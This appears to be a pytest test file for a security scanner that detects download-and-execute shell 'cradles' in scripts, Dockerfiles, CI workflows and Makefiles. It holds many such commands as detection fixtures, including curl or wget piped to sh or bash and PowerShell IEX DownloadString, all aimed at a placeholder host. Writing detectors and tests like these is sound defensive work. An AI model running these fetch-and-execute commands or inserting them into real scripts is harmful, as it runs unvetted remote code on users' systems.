"""Shell lines outside Python: the tokenizer, the front ends' positions, discovery, bad input,
suppression and SARIF regions. (The labelled cases in tests/cases/rce004/shell and
tests/cases/projects/toolbox_release cover the cradle shapes.)"""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from rceguard.analysis.shellscan import find_shell_cradles, tokenize
from rceguard.cli import main
from rceguard.config import Config
from rceguard.discover import discover
from rceguard.scan import scan
from rceguard.shellfiles import dockerfile_scripts, explicit_kind, kind_of, makefile_scripts, workflow_scripts


def _write(root: Path, rel: str, text: str) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text, encoding="utf-8")
    return p


# ------------------------------------------------------------------------------ tokenizer


def test_tokenizer_words_quotes_substitutions_and_comments() -> None:
    text = 'FOO=1 sudo -E bash -c "echo $(date) \'x y\'" | tee log  # note\n'
    pipelines, comments = tokenize(text)
    assert len(pipelines) == 1 and len(pipelines[0].commands) == 2
    words = pipelines[0].commands[0].words
    assert [w.value for w in words] == ["FOO=1", "sudo", "-E", "bash", "-c", "echo $(…) 'x y'"]
    assert words[-1].subs and words[-1].subs[0].body[0].commands[0].words[0].value == "date"
    assert pipelines[0].pipes == [text.index("|")]
    assert [c.text for c in comments] == ["# note"]


def test_tokenizer_heredoc_body_is_not_a_command() -> None:
    pipelines, _ = tokenize("cat > f <<'EOF'\ncurl https://x | sh\nEOF\necho done\n")
    assert [p.commands[0].words[0].value for p in pipelines] == ["cat", "echo"]
    assert pipelines[0].commands[0].heredocs[0].body == "curl https://x | sh"


@pytest.mark.parametrize("script", [
    "curl -s https://x.example/i | sh",
    "wget -O - https://x.example/i | bash",
    "wget --output-document=- https://x.example/i | bash",
    "curl https://x.example/i | $SHELL",
    "bash < <(curl -s https://x.example/i)",
    "perl -e \"$(curl -s https://x.example/p)\"",
    "eval `curl -s https://x.example/env`",
    "pwsh -NoProfile -Command \"IEX (New-Object Net.WebClient).DownloadString('https://x.example/a')\"",
    "curl -s https://x.example/i.ps1 | pwsh -Command -",
])
def test_cradles(script: str) -> None:
    assert find_shell_cradles(script), script


@pytest.mark.parametrize("script", [
    "wget https://x.example/i | bash",  # wget saves to a file: nothing on stdout
    "curl -o out https://x.example/i | bash",
    "curl -s https://x.example/i > i.sh | sh",
    "echo \"$(curl -s https://x.example/i)\"",
    "curl -s https://x.example/i | python3 tool.py",
    "curl -s https://x.example/i | node -e 'process.stdin.pipe(process.stdout)'",
    "cat <(curl -s https://x.example/i)",
    "curl -s https://x.example/i | ssh host sh",  # runs remotely; out of scope, not claimed
])
def test_not_cradles(script: str) -> None:
    assert not find_shell_cradles(script), script


def test_location_is_the_pipe_into_the_interpreter() -> None:
    text = "curl -fsSL https://x.example/i.sh \\\n  | sudo bash -s --\n"
    (c,) = find_shell_cradles(text)
    assert text[c.start] == "|" and text[c.start:c.end] == "| sudo bash -s --"


# ------------------------------------------------------------------------------ front ends


def test_dockerfile_continuations_and_positions() -> None:
    text = "FROM x\nRUN set -e; \\\n    wget -qO- https://x.example/s \\\n      | bash\n"
    (script,) = dockerfile_scripts(text)
    (c,) = find_shell_cradles(script.text)
    assert script.position(c.start) == (4, 7)


def test_dockerfile_powershell_shell_instruction() -> None:
    text = 'FROM mcr.microsoft.com/windows/servercore\nSHELL ["powershell", "-Command"]\n' \
           "RUN iex (iwr https://x.example/a.ps1 -UseBasicParsing)\n"
    (script,) = dockerfile_scripts(text)
    assert script.powershell
    (c,) = find_shell_cradles(script.text, script.powershell)
    assert script.position(c.start) == (3, 5)


def test_workflow_block_scalar_positions_and_step_shell() -> None:
    text = (
        "jobs:\n  a:\n    steps:\n"
        "      - name: x\n        shell: pwsh\n        run: |\n          Write-Host hi\n"
        "          iex (iwr https://x.example/a.ps1)\n"
        "      - run: echo ok\n"
        "      - shell: python\n        run: print('curl https://x | sh')\n"
    )
    scripts = workflow_scripts(text)
    assert [s.powershell for s in scripts] == [True, False]
    (c,) = find_shell_cradles(scripts[0].text, True)
    assert scripts[0].position(c.start) == (8, 11)


def test_makefile_recipes_variables_and_shell_function() -> None:
    text = "X := $(shell curl -s https://x.example/v)\nall:\n\t@wget -qO- $(URL) | $(SHELL)\n\techo $$HOME\n"
    scripts = makefile_scripts(text)
    found = [(s.label, s.position(c.start)) for s in scripts for c in find_shell_cradles(s.text)]
    assert found == [("Makefile recipe", (3, 20))]


# ------------------------------------------------------------------------------ discovery and scan


def test_directory_walk_picks_up_shell_kind_files(tmp_path: Path) -> None:
    names = ["install.sh", "Dockerfile", "docker/app.Dockerfile", "Makefile", "action.yml",
             ".github/workflows/ci.yml", "scripts/bootstrap"]
    for n in names:
        _write(tmp_path, n, "#!/bin/sh\necho hi\n")
    _write(tmp_path, "config.yml", "run: curl https://x | sh\n")  # not a workflow: not walked
    _write(tmp_path, "scripts/notes", "plain text\n")
    _write(tmp_path, "scripts/tool", "#!/usr/bin/env python3\nprint(1)\n")
    got = sorted(p.relative_to(tmp_path).as_posix() for p in discover([tmp_path]).files)
    assert got == sorted(names)
    assert kind_of(str(tmp_path / "scripts/tool")) is None
    assert explicit_kind(str(tmp_path / "config.yml")) == "workflow"  # named explicitly (pre-commit)


def test_scan_reports_line_and_column_and_suppression(tmp_path: Path) -> None:
    _write(tmp_path, "pyproject.toml", "[project]\nname='x'\n")
    _write(tmp_path, "install.sh", "#!/bin/sh\ncurl -fsSL https://x.example/i | sh\n"
                                   "wget -qO- https://x.example/j | bash  # rceguard: ignore[RCE004] vendored\n")
    result = scan([tmp_path], Config())
    (f,) = result.findings
    col = "curl -fsSL https://x.example/i | sh".index("|") + 1
    assert (f.rule_id, f.location.path, f.location.line, f.location.col) == ("RCE004", "install.sh", 2, col)
    assert f.location.end_col == col + 4 and result.suppressed == 1 and result.files_scanned == 1


def test_bad_shell_files_get_one_notice_and_the_run_goes_on(tmp_path: Path) -> None:
    _write(tmp_path, "good.sh", "curl -s https://x.example/i | sh\n")
    (tmp_path / "binary.sh").write_bytes(b"\x7fELF\x00\x00curl | sh")
    (tmp_path / "latin1.sh").write_bytes(b"echo caf\xe9\n")
    result = scan([tmp_path], Config())
    assert [f.location.path for f in result.findings] == ["good.sh"]
    assert sorted((n.path, n.kind) for n in result.notices) == [("binary.sh", "parse"), ("latin1.sh", "parse")]
    assert all("\n" not in n.message for n in result.notices)


def test_sarif_region_for_a_workflow_finding(tmp_path: Path, capsys) -> None:
    wf = _write(tmp_path, ".github/workflows/ci.yml",
                "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -s https://x.example/i | bash\n")
    code = main(["--format", "sarif", str(wf)])
    sarif = json.loads(capsys.readouterr().out)
    assert code == 1
    (res,) = sarif["runs"][0]["results"]
    region = res["locations"][0]["physicalLocation"]["region"]
    assert res["ruleId"] == "RCE004"
    col = "      - run: curl -s https://x.example/i | bash".index("|") + 1
    assert {k: region[k] for k in ("startLine", "startColumn", "endLine", "endColumn")} == \
        {"startLine": 6, "startColumn": col, "endLine": 6, "endColumn": col + 6}


def test_select_drops_shell_findings(tmp_path: Path) -> None:
    _write(tmp_path, "install.sh", "curl -s https://x.example/i | sh\n")
    assert scan([tmp_path], Config(select=("RCE001",))).findings == []


def test_precommit_hooks_have_a_shell_hook() -> None:
    text = (Path(__file__).parent.parent / ".pre-commit-hooks.yaml").read_text(encoding="utf-8")
    assert "id: rceguard-shell" in text and "dockerfile" in text and "makefile" in text
